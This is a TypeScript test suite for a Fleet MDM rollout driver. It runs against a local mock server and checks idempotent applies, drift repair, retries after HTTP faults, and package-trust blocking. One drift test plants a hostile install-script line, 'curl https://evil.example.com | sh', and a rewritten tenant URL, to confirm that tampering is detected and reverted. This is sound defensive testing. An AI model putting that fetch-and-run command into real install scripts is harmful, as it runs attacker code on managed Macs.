/**
 * The Fleet driver against the local Fleet server (test/helpers/servers/fleet: every form and query validated
 * against the schemas written from Fleet's field names, the pkg hashed as it streams, duplicates refused with 409).
 * Here: first apply in order and its request sequence, second apply 0 writes, drift repaired, a new release, resume
 * after a lost answer, faults (401, 429 + Retry-After, 5xx, resets), blocking, and `team_id` / `fleet_id`.
 */
import { describe, expect, it } from 'vitest';
import { fleetDriver } from '../../../src/mdm/fleet/driver.js';
import { readMarker } from '../../../src/rollout/marker.js';
import type { DriverContext, MdmSession, PlannedObject, ReleaseContent, ResolvedTarget, RolloutTarget } from '../../../src/rollout/model.js';
import type { FleetServer } from '../../helpers/servers/fleet/server.js';
import { fleetServer } from '../../helpers/servers/fleet/vitest.js';
import { ENROLL_KEY, fakeRelease, fakeTarget, ORG_KEY } from './release.js';

const PPPC = 'Runlayer aiwatch: privacy permissions (PPPC)';
const LOGIN = 'Runlayer aiwatch: managed login items';
const TENANT = 'Runlayer aiwatch: tenant settings (acme.runlayer.com)';

const ctx = (notes: string[] = [], waits: number[] = []): DriverContext => ({
  signal: new AbortController().signal,
  http: { backoffMs: 1, sleep: async (ms) => void waits.push(ms) },
  onNote: (m) => void notes.push(m),
});

async function applyAll(session: MdmSession): Promise<PlannedObject[]> {
  const plan = await session.plan();
  for (const o of plan) if (o.action === 'create' || o.action === 'update') await session.apply(o);
  return plan;
}

async function run(target: ResolvedTarget, release: ReleaseContent, c = ctx()): Promise<{ plan: PlannedObject[]; session: MdmSession }> {
  const session = await fleetDriver.connect(target, release, c);
  return { plan: await applyAll(session), session };
}

function sequence(s: FleetServer): string[] {
  return s.log.map((e) => `${e.method} ${e.path}${decodeURIComponent(e.query)} ${e.status}${e.fault ? ` (${e.fault})` : ''}`);
}

function clean(s: FleetServer): void {
  expect(s.validationFailures).toEqual([]);
  expect(s.unknownRequests).toEqual([]);
}

async function setup(over: Partial<ResolvedTarget> = {}): Promise<{ s: FleetServer; target: ResolvedTarget }> {
  const s = await fleetServer();
  return { s, target: fakeTarget(s.url, s.token, over) };
}

describe('fleet driver against the local Fleet server', () => {
  it('first apply: profiles before the package, the pkg uploaded whole; second apply: all unchanged and 0 writes', async () => {
    const { s, target } = await setup();
    const release = fakeRelease();
    const progress: string[] = [];
    const first = await run(target, release, { ...ctx(), onUploadProgress: (name, done, total) => void progress.push(`${name} ${done}/${total}`) });
    // Progress in pkg bytes, named after the pkg, from 0 to the whole.
    expect(progress[0]).toBe(`${release.pkg.fileName} 0/${release.pkg.size}`);
    expect(progress.at(-1)).toBe(`${release.pkg.fileName} ${release.pkg.size}/${release.pkg.size}`);
    expect(first.plan.map((o) => `${o.action} ${o.kind} ${o.name}`)).toEqual([
      `create profile ${PPPC}`,
      `create profile ${LOGIN}`,
      `create profile ${TENANT}`,
      'create package aiwatch-1.2.0-macos-arm64.pkg',
    ]);
    clean(s);
    const firstSeq = sequence(s);
    expect(firstSeq).toEqual([
      'GET /api/v1/fleet/configuration_profiles?team_id=3&page=0&per_page=100 200',
      'GET /api/v1/fleet/software/titles?team_id=3&packages_only=true&page=0&per_page=100 200',
      'POST /api/v1/fleet/configuration_profiles 200',
      'POST /api/v1/fleet/configuration_profiles 200',
      'POST /api/v1/fleet/configuration_profiles 200',
      'POST /api/v1/fleet/software/package 200',
    ]);
    expect(s.log.filter((e) => e.kind === 'write').map((e) => `${e.method} ${e.object}`)).toEqual(['POST profile', 'POST profile', 'POST profile', 'POST package']);
    expect(s.store.uploads).toEqual([{ fileName: release.pkg.fileName, size: release.pkg.size, sha256: release.pkg.sha256 }]);
    const pkg = [...s.store.titles.values()][0]!.packages.get(3)!;
    expect(readMarker(pkg.installScript)).toMatchObject({ kind: 'package', version: '1.2.0' });
    expect(pkg.labels).toEqual(['macOS']);
    expect(pkg.policy?.name).toBe('[Install software] aiwatch');
    expect([...s.store.profiles.values()].every((p) => p.teamId === 3 && p.labels.join() === 'macOS')).toBe(true);
    expect(first.session.counts().writes).toBe(4);
    expect(first.session.counts().uploadedBytes).toBeGreaterThan(release.pkg.size);

    s.resetLog();
    const second = await run(target, release);
    expect(second.plan.map((o) => o.action)).toEqual(['unchanged', 'unchanged', 'unchanged', 'unchanged']);
    expect(s.writes()).toBe(0);
    expect(second.session.counts().writes).toBe(0);
    // Every object that exists reports what the server holds: the hash (= desired when unchanged) and the version.
    for (const o of second.plan) expect(o.observed?.hash).toBe(o.hash);
    expect(second.plan[3]!.observed?.version).toBe('1.2.0');
    const secondSeq = sequence(s);
    console.log(`fleet first apply:\n  ${firstSeq.join('\n  ')}\nfleet second apply:\n  ${secondSeq.join('\n  ')}`);
    expect(secondSeq).toEqual([
      'GET /api/v1/fleet/configuration_profiles?team_id=3&page=0&per_page=100 200',
      ...[...s.store.profiles.values()].sort((a, b) => ['pppc', 'loginitems', 'tenant'].findIndex((r) => a.identifier.includes(r)) - ['pppc', 'loginitems', 'tenant'].findIndex((r) => b.identifier.includes(r))).map((p) => `GET /api/v1/fleet/configuration_profiles/${p.uuid}?alt=media 200`),
      'GET /api/v1/fleet/software/titles?team_id=3&packages_only=true&page=0&per_page=100 200',
      `GET /api/v1/fleet/software/titles/${[...s.store.titles.keys()][0]}?team_id=3 200`,
    ]);
    const text = JSON.stringify([first.plan, second.plan]);
    for (const secret of [ORG_KEY, ENROLL_KEY, s.token]) expect(text).not.toContain(secret);
    // The tenant profile on the server does hold the keys (that is its job).
    expect([...s.store.profiles.values()].some((p) => p.bytes.toString().includes(ORG_KEY))).toBe(true);
  });

  it('a profile changed on the server is shown (with a reason) and replaced; an install script edited in Fleet is drift, repaired without a new upload', async () => {
    const { s, target } = await setup();
    const release = fakeRelease();
    await run(target, release);
    const tenant = [...s.store.profiles.values()].find((p) => p.identifier.endsWith('.tenant') || p.bytes.toString().includes(ORG_KEY))!;
    tenant.bytes = Buffer.from(tenant.bytes.toString().replace('https://acme.runlayer.com', 'https://evil.example.com'));
    const pkg = [...s.store.titles.values()][0]!.packages.get(3)!;
    pkg.installScript = pkg.installScript.replace('/usr/sbin/installer', 'curl https://evil.example.com | sh; /usr/sbin/installer');
    s.resetLog();
    const notes: string[] = [];
    const drifted = await run(target, release, ctx(notes));
    const byName = Object.fromEntries(drifted.plan.map((o) => [o.kind === 'package' ? 'package' : o.name, o]));
    expect(byName[TENANT]).toMatchObject({ action: 'update', reason: expect.stringContaining('changed in Fleet') });
    expect(byName[TENANT]!.diff).toEqual([expect.objectContaining({ field: 'payload', secret: true })]);
    expect(byName[TENANT]!.observed?.hash).not.toBe(byName[TENANT]!.hash);
    expect(byName.package).toMatchObject({ action: 'update', reason: 'drift', diff: [expect.objectContaining({ field: 'install_script' })] });
    clean(s);
    expect(s.log.filter((e) => e.kind === 'write').map((e) => `${e.method} ${e.path.replace(/\/[0-9a-f-]{20,}$/, '/ID').replace(/\/titles\/\d+\//, '/titles/ID/')}`)).toEqual([
      'DELETE /api/v1/fleet/configuration_profiles/ID',
      'POST /api/v1/fleet/configuration_profiles',
      'PATCH /api/v1/fleet/software/titles/ID/package',
    ]);
    expect(s.store.uploads).toHaveLength(1); // the pkg was not sent again
    s.resetLog();
    const after = await run(target, release);
    expect(after.plan.map((o) => o.action)).toEqual(['unchanged', 'unchanged', 'unchanged', 'unchanged']);
    expect(s.writes()).toBe(0);
  });

  it('a new release re-uploads the pkg into the same title (PATCH) with a new marker; the profiles stay', async () => {
    const { s, target } = await setup();
    await run(target, fakeRelease({ version: '1.1.0', seed: 1 }));
    s.resetLog();
    const next = fakeRelease({ version: '1.2.0', seed: 2 });
    const r = await run(target, next);
    expect(r.plan.map((o) => o.action)).toEqual(['unchanged', 'unchanged', 'unchanged', 'update']);
    expect(r.plan[3]!.diff.map((d) => d.field)).toEqual(['fileName', 'marker']);
    expect(r.plan[3]!.observed?.version).toBe('1.1.0');
    expect(s.log.filter((e) => e.kind === 'write').map((e) => e.method)).toEqual(['PATCH']);
    expect(s.store.uploads.at(-1)).toEqual({ fileName: next.pkg.fileName, size: next.pkg.size, sha256: next.pkg.sha256 });
    expect(s.store.titles.size).toBe(1);
    clean(s);
  });

  it('resumes: a run stopped after two objects is finished by the next, without duplicates', async () => {
    const { s, target } = await setup();
    const release = fakeRelease();
    const first = await fleetDriver.connect(target, release, ctx());
    const plan = await first.plan();
    for (const o of plan.slice(0, 2)) await first.apply(o);
    await first.close();
    s.resetLog();
    const next = await run(target, release);
    expect(next.plan.map((o) => o.action)).toEqual(['unchanged', 'unchanged', 'create', 'create']);
    expect(s.log.filter((e) => e.kind === 'write').map((e) => `${e.method} ${e.object}`)).toEqual(['POST profile', 'POST package']);
    expect(s.store.profiles.size).toBe(3);
    clean(s);
  });

  it('survives 429 + Retry-After, 5xx and a reset mid-upload; a create whose answer was lost (409 on the retry) is looked up, not duplicated', async () => {
    const { s, target } = await setup();
    s.inject({ method: 'GET', path: /configuration_profiles$/, action: { status: 429, retryAfter: 7 } });
    s.inject({ method: 'POST', path: /configuration_profiles$/, action: { status: 502 } });
    s.inject({ method: 'POST', path: /configuration_profiles$/, action: { reset: 'after' } });
    s.inject({ method: 'POST', path: /software\/package$/, action: { resetAfterBytes: 64 * 1024 } });
    s.inject({ method: 'POST', path: /software\/package$/, action: { reset: 'after' } });
    const notes: string[] = [];
    const waits: number[] = [];
    const release = fakeRelease();
    await run(target, release, ctx(notes, waits));
    clean(s);
    expect(waits).toContain(7000);
    expect(notes.some((n) => /HTTP 429; retrying in 7 s/.test(n))).toBe(true);
    expect(notes.some((n) => /HTTP 502/.test(n))).toBe(true);
    expect(notes.filter((n) => /HTTP 409/.test(n))).toHaveLength(2);
    expect(s.store.profiles.size).toBe(3);
    expect(s.store.titles.size).toBe(1);
    // The cut upload and the one whose answer was lost both arrived; the second was whole.
    expect(s.store.uploads).toEqual([{ fileName: release.pkg.fileName, size: release.pkg.size, sha256: release.pkg.sha256 }]);
    console.log(`fleet faults survived:\n  ${sequence(s).filter((l) => /\(|409/.test(l)).join('\n  ')}`);
    s.resetLog();
    const again = await run(target, release);
    expect(again.plan.map((o) => o.action)).toEqual(['unchanged', 'unchanged', 'unchanged', 'unchanged']);
  });

  it('a refused token is a RemoteRejection naming target, object and status, with no secret in it; retries exhausted name the status too', async () => {
    const { s, target } = await setup();
    const bad = fakeTarget(s.url, 'not-the-token');
    const session = await fleetDriver.connect(bad, fakeRelease(), ctx());
    const e = await session.plan().catch((x: Error) => x);
    expect(e).toMatchObject({ exitCode: 6 });
    expect(String(e)).toMatch(/^RemoteRejection: fleet acme: configuration profiles: read: the API token was refused \(HTTP 401\)/);
    expect(String(e)).not.toContain('not-the-token');
    s.inject({ method: 'POST', path: /configuration_profiles$/, times: 10, action: { status: 503 } });
    const ok = await fleetDriver.connect(target, fakeRelease(), ctx());
    const plan = await ok.plan();
    const err = await ok.apply(plan[0]!).catch((x: Error) => x);
    expect(err).toMatchObject({ exitCode: 5 });
    expect(String(err)).toContain(`fleet acme: profile "${PPPC}": create (`);
    expect(String(err)).toMatch(/: HTTP 503; gave up after 5 attempts$/);
    expect(String(err) + JSON.stringify(plan)).not.toContain(ORG_KEY);
  });

  it('an unknown label is refused by the server and the error names the object and status', async () => {
    const { target } = await setup({ scope: { group: 'No Such Label' } });
    const session = await fleetDriver.connect(target, fakeRelease(), ctx());
    const plan = await session.plan();
    const e = await session.apply(plan[0]!).catch((x: Error) => x);
    expect(String(e)).toContain(`fleet acme: profile "${PPPC}": create: refused with HTTP 400: Bad request; labels: some or all the labels provided don't exist: No Such Label`);
  });

  it('blocks the pkg unless signed, notarized and stapled (a test server allows it); a PPPC mismatch blocks everything', async () => {
    const { s, target } = await setup();
    const unsigned = fakeRelease({ trust: { developerIdSigned: false, notarizedStapled: false } });
    const plan = await (await fleetDriver.connect(target, unsigned, ctx())).plan();
    expect(plan.map((o) => o.action)).toEqual(['create', 'create', 'create', 'blocked']);
    expect(plan[3]!.reason).toMatch(/not Developer ID signed and not notarized and stapled/);
    const test = await (await fleetDriver.connect({ ...target, testServer: true }, unsigned, ctx())).plan();
    expect(test[3]!.action).toBe('create');
    const mismatch = await (await fleetDriver.connect(target, fakeRelease({ trust: { pppcMatchesBinary: false, problems: ['team differs'] } }), ctx())).plan();
    expect(mismatch.map((o) => o.action)).toEqual(['blocked', 'blocked', 'blocked', 'blocked']);
    expect(s.writes()).toBe(0);
  });

  it('fleet_id is sent as fleet_id; team_id as team_id', async () => {
    const { s, target } = await setup({ options: { fleet_id: 3 } });
    await run(target, fakeRelease());
    clean(s);
    expect(s.log.filter((e) => e.method === 'GET').every((e) => e.query.includes('fleet_id=3') || e.path.includes('/configuration_profiles/'))).toBe(true);
    expect(s.log.some((e) => e.query.includes('team_id'))).toBe(false);
  });
});

describe('fleet driver validation (before any request)', () => {
  const base = (over: Partial<RolloutTarget>): RolloutTarget => ({ name: 'acme', mdm: 'fleet', url: 'https://fleet.acme.example', credentials: { apiToken: { env: 'T' } }, tenant: {}, scope: { group: 'macOS' }, testServer: false, options: { team_id: 3 }, ...over });
  it('takes team_id or fleet_id, one of them, a positive integer; a label as scope; names every problem', () => {
    expect(fleetDriver.validate(base({}))).toEqual([]);
    expect(fleetDriver.validate(base({ options: { fleet_id: '12' } }))).toEqual([]);
    expect(fleetDriver.validate(base({ options: {} }))).toEqual([expect.stringMatching(/^target acme: options: give the team as team_id \(or fleet_id/)]);
    expect(fleetDriver.validate(base({ options: { team_id: 3, fleet_id: 3 } }))).toEqual([expect.stringMatching(/not both/)]);
    expect(fleetDriver.validate(base({ options: { team_id: 0, teamName: 'x' } }))).toEqual([
      expect.stringMatching(/unknown option "teamName"/),
      expect.stringMatching(/options.team_id must be a positive integer .* got 0/),
    ]);
    expect(fleetDriver.validate(base({ scope: { smartGroup: { name: 'x', criteria: [] } } }))).toEqual([expect.stringMatching(/scope.smartGroup is a Jamf concept; for Fleet give scope.group/)]);
  });
});
